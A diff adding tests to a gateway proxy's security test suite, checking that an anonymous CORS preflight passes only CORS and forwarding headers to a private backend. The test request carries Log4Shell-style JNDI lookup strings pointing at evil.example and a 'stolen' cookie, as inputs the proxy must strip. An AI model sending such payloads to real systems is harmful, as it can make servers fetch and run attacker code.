@@ -363,6 +363,42 @@ describe('attacks on the gateway proxy (2026-12 review)', () => {
     });
   });
 
+  describe('an anonymous preflight carries nothing but what CORS reads', () => {
+    const privHost = () => host(privRaw.server);
+    it('reaches a private application with Host, Origin and Access-Control-Request-* only (and the proxy\'s X-Forwarded-*)', async () => {
+      const h = privHost();
+      const before = privRaw.bytes().length;
+      const transcript = await raw(
+        h,
+        `OPTIONS /pf2 HTTP/1.1\r\nHost: ${h}\r\nOrigin: https://evil.example\r\nAccess-Control-Request-Method: PUT\r\n` +
+          'Access-Control-Request-Headers: x-custom\r\nUser-Agent: ${jndi:ldap://evil.example/a}\r\nReferer: https://evil.example/\r\n' +
+          'Accept: */*\r\nX-Api-Version: ${jndi:ldap://evil.example/b}\r\nCookie: session=stolen\r\nContent-Length: 0\r\n\r\n',
+      );
+      expect(statuses(transcript)).toEqual([200]);
+      const seen = privRaw.bytes().slice(before);
+      const [head] = seen.split('\r\n\r\n');
+      expect(head.split('\r\n').map((line) => line.split(':')[0].toLowerCase())).toEqual([
+        'options /pf2 http/1.1',
+        'host',
+        'origin',
+        'access-control-request-method',
+        'access-control-request-headers',
+        'x-forwarded-for',
+        'x-forwarded-proto',
+        'x-forwarded-host',
+      ]);
+      expect(seen).not.toContain('jndi');
+      expect(seen).not.toContain('stolen');
+    });
+
+    it('leaves a request the token admits as it came', async () => {
+      const h = privHost();
+      const before = privRaw.bytes().length;
+      await raw(h, `OPTIONS /pf3 HTTP/1.1\r\nHost: ${h}\r\nOrigin: https://${h}\r\nUser-Agent: kept-agent\r\nX-Gateway-Token: ${tokens.alice}\r\n\r\n`);
+      expect(privRaw.bytes().slice(before)).toContain('User-Agent: kept-agent');
+    });
+  });
+
   describe('tokens that do not admit', () => {
     it.each([
       ['expired', () => tokens.expired, 401],
